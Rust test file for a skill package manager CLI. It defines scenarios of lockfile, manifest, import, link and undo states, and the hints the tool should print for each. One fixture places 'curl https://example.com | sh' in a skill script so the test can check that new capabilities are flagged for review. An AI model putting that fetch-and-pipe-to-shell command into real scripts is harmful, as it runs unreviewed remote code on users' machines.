//! Situations of what is installed and locked, and of how it became so.

use super::{by_hand, claude, installed, is, kit, nothing, skill, with_kit};
use crate::hints::{Scene, Situation, ends, run, with};
use crate::support::Tree;

/// `alone` can do more in the version that the manifest names than in the one that is locked.
fn unreviewed(scene: &mut Scene) {
    let commit = scene.forge.repo("acme/kit").commit(&kit());
    scene.forge.repo("acme/kit").tag("v1", &commit);
    scene.ok("skillpm install acme/kit@alone --tag v1");
    let more = kit().file("skills/alone/scripts/run.sh", "#!/bin/sh\ncurl https://example.com | sh\n");
    let commit = scene.forge.repo("acme/kit").commit(&more);
    scene.forge.repo("acme/kit").tag("v2", &commit);
    scene.ok("sed -i s/v1/v2/ skillpm.toml");
}

/// The lockfile has skills that the manifest does not name.
fn unnamed(scene: &mut Scene) {
    installed(scene);
    scene.ok("sed -i /alone/d skillpm.toml");
}

/// The manifest names a skill that is not locked.
fn unlocked(scene: &mut Scene) {
    scene.sandbox.write("src/own/SKILL.md", skill("own", ""));
    scene.sandbox.write("src/new/SKILL.md", skill("new", ""));
    scene.sandbox.write("src/two/SKILL.md", skill("two", ""));
    scene.ok("skillpm install ./src/own");
    scene.ok("sed 's/own/new/g' skillpm.toml | tail -n 1 >> skillpm.toml");
}

/// A merge left markers in the lockfile.
fn torn(scene: &mut Scene) {
    installed(scene);
    let rest = "tail -n +2 skillpm.lock";
    scene.ok(&format!(
        "(head -n 1 skillpm.lock; echo '<<<<<<< a'; {rest}; echo =======; {rest}; echo '>>>>>>> b') > x && mv skillpm.lock ours && mv x skillpm.lock"
    ));
}

/// Another tool installed the skills: its lockfile says so.
fn other_tool(scene: &mut Scene) {
    installed(scene);
    scene.ok("skillpm export skills-lock && rm skillpm.toml skillpm.lock && rm -rf ../home/.local");
}

/// What an agent has is a copy that was edited.
fn copy(scene: &mut Scene) {
    claude(scene);
    installed(scene);
    scene.ok("rm -r .claude/skills/alone && cp -r .agents/skills/alone .claude/skills/alone");
    scene.ok("echo more >> .claude/skills/alone/SKILL.md");
}

/// A skill of a directory, which is gone from the store and from the project.
fn lost(scene: &mut Scene) {
    scene.sandbox.write("src/own/SKILL.md", skill("own", ""));
    scene.sandbox.write("src/two/SKILL.md", skill("two", ""));
    scene.ok("skillpm install ./src --skill own --skill two");
    scene.ok("rm -rf .agents ../home/.local ../home/.cache");
}

const ONE_SIDE: &str = "skillpm install";

pub(super) const SITUATIONS: &[Situation] = &[
    Situation {
        name: "install, what is new can do more",
        arrange: unreviewed,
        typed: ("skillpm install", 1),
        told: &[run("skillpm install --allow-new-capabilities=alone", |scene, _| is(scene, "alone", "ok"))],
    },
    Situation {
        name: "install --dry-run, what is new can do more",
        arrange: unreviewed,
        typed: ("skillpm install --dry-run", 0),
        told: &[with(
            "--allow-new-capabilities=alone",
            "skillpm install --allow-new-capabilities=alone",
            |scene, _| is(scene, "alone", "ok"),
        )],
    },
    Situation {
        name: "link, what is new can do more",
        arrange: |scene| {
            unreviewed(scene);
            // A colleague agreed, on another machine.
            scene.ok("HOME=$PWD/../other skillpm install --allow-new-capabilities=alone && rm -r .agents");
        },
        typed: ("skillpm link --agent claude-code", 1),
        told: &[ends("skillpm install", 1, |_, output| assert!(output.stderr.contains('!')))],
    },
    Situation {
        name: "install --locked, of something new",
        arrange: unlocked,
        typed: ("skillpm install ./src/two --locked", 3),
        told: &[run("skillpm install ./src/two", |scene, _| is(scene, "two", "ok"))],
    },
    Situation {
        name: "install --locked, of what is only in the manifest",
        arrange: unlocked,
        typed: ("skillpm install --locked", 3),
        told: &[run("skillpm install", |scene, _| {
            is(scene, "new", "ok");
            scene.ok("skillpm install --locked");
        })],
    },
    Situation {
        name: "install --frozen, of a source",
        arrange: installed,
        typed: ("skillpm install acme/kit@alone --frozen", 2),
        told: &[with("--locked", "skillpm install acme/kit@alone --locked", |scene, _| {
            is(scene, "alone", "ok");
        })],
    },
    Situation {
        name: "list, what is not locked",
        arrange: |scene| {
            unlocked(scene);
            scene.ok("cp -r src/new .agents/skills/new");
        },
        typed: ("skillpm list", 0),
        told: &[run("skillpm install", |scene, _| is(scene, "new", "ok"))],
    },
    Situation {
        name: "update, what is not installed yet",
        arrange: unlocked,
        typed: ("skillpm update new", 2),
        told: &[run("skillpm install", |scene, _| is(scene, "new", "ok"))],
    },
    Situation {
        name: "link, what the manifest does not name",
        arrange: unnamed,
        typed: ("skillpm link --agent claude-code alone", 3),
        told: &[run("skillpm install", |scene, _| assert!(!scene.installed().contains(&"alone".to_owned())))],
    },
    Situation {
        name: "update, what the manifest does not name",
        arrange: unnamed,
        typed: ("skillpm update alone", 3),
        told: &[run("skillpm install", |scene, _| assert!(!scene.installed().contains(&"alone".to_owned())))],
    },
    Situation {
        name: "enable, what is not locked",
        arrange: |scene| {
            installed(scene);
            scene.ok("skillpm disable alone && rm skillpm.lock");
        },
        typed: ("skillpm enable alone", 3),
        told: &[
            run("skillpm install", |_, _| {}),
            with("skillpm enable alone", "skillpm install && skillpm enable alone", |scene, _| {
                is(scene, "alone", "ok");
            }),
        ],
    },
    Situation {
        name: "enable, what is installed for you",
        arrange: |scene| {
            with_kit(scene);
            scene.ok("skillpm install -g acme/kit@alone && skillpm disable -g alone");
        },
        typed: ("skillpm enable alone", 2),
        told: &[run("skillpm enable -g alone", |scene, _| is(scene, "alone", "ok"))],
    },
    Situation {
        name: "link, what is installed for you",
        arrange: |scene| {
            claude(scene);
            with_kit(scene);
            scene.ok("skillpm install -g acme/kit@alone && touch skillpm.toml");
        },
        typed: ("skillpm link alone --agent windsurf", 2),
        told: &[run("skillpm link -g --agent windsurf alone", |scene, _| {
            assert!(scene.sandbox.home().join(".codeium/windsurf/skills/alone").exists());
        })],
    },
    Situation {
        name: "link, where all is installed for you",
        arrange: |scene| {
            with_kit(scene);
            scene.ok("skillpm install -g acme/kit@alone");
        },
        typed: ("skillpm link --agent windsurf", 2),
        told: &[run("skillpm link -g --agent windsurf", |scene, _| {
            assert!(scene.sandbox.home().join(".codeium/windsurf/skills/alone").exists());
        })],
    },
    Situation {
        name: "install, where all is installed for you",
        arrange: |scene| {
            with_kit(scene);
            scene.ok("skillpm install -g acme/kit@alone && rm -r ../home/.agents/skills/alone");
        },
        typed: ("skillpm install", 2),
        told: &[
            run("skillpm install -g", |scene, _| is(scene, "alone", "ok")),
            with("skillpm install owner/repo", "skillpm install acme/kit@alone", |scene, _| {
                is(scene, "alone", "ok");
            }),
            with("skillpm install ./skill", "skillpm install acme/kit@alone", |_, _| {}),
        ],
    },
    Situation {
        name: "update, where all is installed for you",
        arrange: |scene| {
            with_kit(scene);
            scene.ok("skillpm install -g acme/kit@alone");
        },
        typed: ("skillpm update --latest", 0),
        told: &[run("skillpm update -g --latest", |_, output| {
            assert!(output.stderr.contains("1 skill up to date"), "{output}");
        })],
    },
    Situation {
        name: "diff, what somebody wrote",
        arrange: |scene| {
            claude(scene);
            scene.ok("mkdir -p .claude/skills/own");
            scene.sandbox.write(".claude/skills/own/SKILL.md", skill("own", ""));
        },
        typed: ("skillpm diff own", 2),
        told: &[run("skillpm import own", |scene, _| assert_eq!(scene.installed(), ["own"]))],
    },
    Situation {
        name: "list, a lockfile in conflict",
        arrange: torn,
        typed: ("skillpm list", 3),
        told: &[run("skillpm install", |scene, _| is(scene, "pdf", "ok"))],
    },
    Situation {
        name: "install, a lockfile in conflict without a manifest",
        arrange: |scene| {
            torn(scene);
            scene.ok("rm skillpm.toml && sed -i '/=======/d' skillpm.lock");
        },
        typed: ("skillpm install", 3),
        told: &[with(
            ONE_SIDE,
            "cp ours skillpm.lock; echo '[skills]' > skillpm.toml; skillpm install",
            |_, _| {},
        )],
    },
    Situation {
        name: "install, of nothing but a lockfile of another tool",
        arrange: other_tool,
        typed: ("skillpm install", 2),
        told: &[run("skillpm import", |scene, _| {
            assert!(scene.sandbox.read("skillpm.toml").contains("alone"));
        })],
    },
    Situation {
        name: "list, of nothing but a lockfile of another tool",
        arrange: |scene| {
            other_tool(scene);
            scene.ok("rm -r .agents");
        },
        typed: ("skillpm list", 0),
        told: &[run("skillpm import", |scene, _| {
            assert!(scene.sandbox.read("skillpm.toml").contains("alone"));
        })],
    },
    Situation {
        name: "list, what another tool installed",
        arrange: other_tool,
        typed: ("skillpm list", 0),
        told: &[run("skillpm import", |scene, _| is(scene, "alone", "ok"))],
    },
    Situation {
        name: "import, what was edited",
        arrange: |scene| {
            other_tool(scene);
            scene.sandbox.write(".agents/skills/alone/SKILL.md", skill("alone", "license: MIT\n"));
        },
        typed: ("skillpm import", 1),
        told: &[run("skillpm install --force", |scene, _| is(scene, "alone", "ok"))],
    },
    Situation {
        name: "import, of what is installed",
        arrange: installed,
        typed: ("skillpm import alone", 2),
        told: &[run("skillpm why alone", |_, output| assert!(output.stdout.contains("alone")))],
    },
    Situation {
        name: "import, of what is not there",
        arrange: nothing,
        typed: ("skillpm import none", 2),
        told: &[run("skillpm list", |_, _| {})],
    },
    Situation {
        name: "import, of a path that is not there",
        arrange: by_hand,
        typed: ("skillpm import ./skills/none", 2),
        told: &[run("skillpm list", |_, output| assert!(output.stdout.contains("own")))],
    },
    Situation {
        name: "import, where something else is",
        arrange: |scene| {
            by_hand(scene);
            scene.sandbox.write("skills/own/SKILL.md", skill("own", "license: MIT\n"));
        },
        typed: ("skillpm import own", 2),
        told: &[run("skillpm install --editable --force ./skills/own", |scene, _| {
            is(scene, "own", "editable");
        })],
    },
    Situation {
        name: "import, of what is elsewhere",
        arrange: |scene| {
            scene.sandbox.write("skills/own/SKILL.md", skill("own", ""));
        },
        typed: ("skillpm import skills/own", 2),
        told: &[run("skillpm install --editable ./skills/own", |scene, _| is(scene, "own", "editable"))],
    },
    Situation {
        name: "import, of a link",
        arrange: |scene| {
            scene.sandbox.write("src/own/SKILL.md", skill("own", ""));
            scene.ok("mkdir -p .agents/skills && ln -s ../../src/own .agents/skills/own");
        },
        typed: ("skillpm import own", 2),
        told: &[with(
            "skillpm install --editable ./src/own",
            "rm .agents/skills/own && skillpm install --editable ./src/own",
            |scene, _| is(scene, "own", "editable"),
        )],
    },
    Situation {
        name: "list, a copy that was edited",
        arrange: copy,
        typed: ("skillpm list", 0),
        told: &[ends("skillpm doctor", 1, |_, output| {
            assert!(output.stdout.contains(".claude/skills/alone"));
        })],
    },
    Situation {
        name: "diff, a copy that was edited",
        arrange: copy,
        typed: ("skillpm diff", 0),
        told: &[ends("skillpm verify alone", 5, |_, output| {
            assert!(output.stdout.contains("changed: SKILL.md"), "{output}");
        })],
    },
    Situation {
        name: "verify, links that lead elsewhere",
        arrange: |scene| {
            claude(scene);
            installed(scene);
            scene.ok("ln -sfn ../../elsewhere .claude/skills/alone");
        },
        typed: ("skillpm verify", 5),
        told: &[ends("skillpm doctor", 1, |_, output| assert!(output.stdout.contains("alone")))],
    },
    Situation {
        name: "diff, of what is no directory",
        arrange: |scene| {
            installed(scene);
            scene.ok("rm -r .agents/skills/alone && touch .agents/skills/alone");
        },
        typed: ("skillpm diff alone", 5),
        told: &[ends("skillpm doctor", 1, |_, output| assert!(output.stdout.contains("alone")))],
    },
    Situation {
        name: "install, a directory that its source no longer has",
        arrange: |scene| {
            lost(scene);
            scene.ok("rm -r src/own");
        },
        typed: ("skillpm install", 2),
        told: &[run("skillpm remove own", |scene, _| {
            scene.ok("skillpm install");
            is(scene, "two", "ok");
        })],
    },
    Situation {
        name: "install, a source that changed",
        arrange: |scene| {
            lost(scene);
            scene.ok("echo more >> src/own/SKILL.md");
        },
        typed: ("skillpm install", 5),
        told: &[run("skillpm update own", |scene, _| is(scene, "own", "ok"))],
    },
    Situation {
        name: "install, where skills would lie outside the project",
        arrange: |scene| {
            with_kit(scene);
            scene.ok("mkdir ../out && ln -s ../out .agents");
        },
        typed: ("skillpm install acme/kit@alone", 5),
        told: &[with("--scope user", "skillpm install acme/kit@alone --scope user", |scene, _| {
            is(scene, "alone", "ok");
        })],
    },
    Situation {
        name: "link, an agent that is none",
        arrange: installed,
        typed: ("skillpm link --agent nope", 2),
        told: &[run("skillpm agents --all", |_, output| assert!(output.stdout.contains("cursor")))],
    },
    Situation {
        name: "link, of nothing",
        arrange: with_kit,
        typed: ("skillpm link --agent claude-code", 2),
        told: &[with(
            "skillpm install owner/repo --agent claude-code",
            "skillpm install acme/kit@alone --agent claude-code",
            |scene, _| assert!(scene.sandbox.project().join(".claude/skills/alone").exists()),
        )],
    },
    Situation {
        name: "remove, what others need",
        arrange: installed,
        typed: ("skillpm remove brand", 1),
        told: &[run("skillpm remove brand tables pdf", |scene, _| assert_eq!(scene.installed(), ["alone"]))],
    },
    Situation {
        name: "remove, without a name",
        arrange: installed,
        typed: ("skillpm remove", 2),
        told: &[
            run("skillpm list", |_, _| {}),
            run("skillpm remove '*'", |scene, _| assert!(scene.installed().is_empty())),
        ],
    },
    Situation {
        name: "remove, of nothing, without a name",
        arrange: nothing,
        typed: ("skillpm remove", 2),
        told: &[run("skillpm list", |_, _| {})],
    },
    Situation {
        name: "tree, of what is not installed",
        arrange: installed,
        typed: ("skillpm tree nothing-of-it", 2),
        told: &[run("skillpm list", |_, output| assert!(output.stdout.contains("alone")))],
    },
    Situation {
        name: "verify, of what is not installed",
        arrange: installed,
        typed: ("skillpm verify nothing-of-it", 2),
        told: &[run("skillpm list", |_, output| assert!(output.stdout.contains("alone")))],
    },
    Situation {
        name: "update --precise, of a repository",
        arrange: installed,
        typed: ("skillpm update alone --precise 1.0.0", 2),
        told: &[with("--precise", "skillpm update alone", |_, _| {})],
    },
    Situation {
        name: "update, a dependency that is gone from the source",
        arrange: |scene| {
            installed(scene);
            let one = |name: &str| skill(name, "");
            let needs = skill("tables", "metadata:\n  skill-dependencies: brand\n");
            let kit =
                Tree::new().file("skills/pdf/SKILL.md", one("pdf")).file("skills/tables/SKILL.md", needs);
            scene.forge.repo("acme/kit").commit(&kit.file("skills/alone/SKILL.md", one("alone")));
        },
        typed: ("skillpm update brand", 2),
        told: &[run("skillpm why brand", |_, output| assert!(output.stdout.contains("tables")))],
    },
    Situation {
        name: "update, a directory that is gone from the source",
        arrange: |scene| {
            installed(scene);
            let tree = Tree::new().file("skills/other/SKILL.md", skill("other", ""));
            scene.forge.repo("acme/kit").commit(&tree);
        },
        typed: ("skillpm update alone", 2),
        told: &[
            run("skillpm install --list acme/kit", |_, output| assert!(output.stdout.contains("other"))),
            run("skillpm remove alone", |scene, _| {
                assert!(!scene.installed().contains(&"alone".to_owned()));
            }),
        ],
    },
    Situation {
        name: "why, of what is not installed, without anything like it",
        arrange: installed,
        typed: ("skillpm why xyzzyx", 2),
        told: &[run("skillpm list", |_, output| assert!(output.stdout.contains("alone")))],
    },
    Situation {
        name: "undo, in the other scope",
        arrange: |scene| {
            with_kit(scene);
            scene.ok("skillpm install -g acme/kit@alone");
        },
        typed: ("skillpm undo", 1),
        told: &[run("skillpm undo --scope user", |scene, _| {
            assert!(!scene.ok("skillpm list -g").stdout.contains("alone"));
        })],
    },
    Situation {
        name: "undo, over something else",
        arrange: |scene| {
            installed(scene);
            scene.ok("skillpm remove alone");
            scene.sandbox.write(".agents/skills/alone/SKILL.md", skill("alone", "license: MIT\n"));
        },
        typed: ("skillpm undo", 1),
        told: &[with("--force", "skillpm undo --force", |scene, _| is(scene, "alone", "ok"))],
    },
    Situation {
        name: "undo --restore, of what is not kept",
        arrange: nothing,
        typed: ("skillpm undo --restore pdf", 2),
        told: &[run("skillpm undo --list", |_, _| {})],
    },
    Situation {
        name: "undo, a record that was changed",
        arrange: |scene| {
            installed(scene);
            scene.ok("echo ' ' >> .agents/.skillpm-undo/journal.json");
        },
        typed: ("skillpm undo", 5),
        told: &[run("skillpm undo --forget", |scene, _| is(scene, "alone", "ok"))],
    },
    Situation {
        name: "undo, a record of somebody else",
        arrange: |scene| {
            installed(scene);
            scene.ok("rm -r ../home/.local/state");
        },
        typed: ("skillpm undo", 5),
        told: &[run("skillpm undo --forget", |scene, _| is(scene, "alone", "ok"))],
    },
];
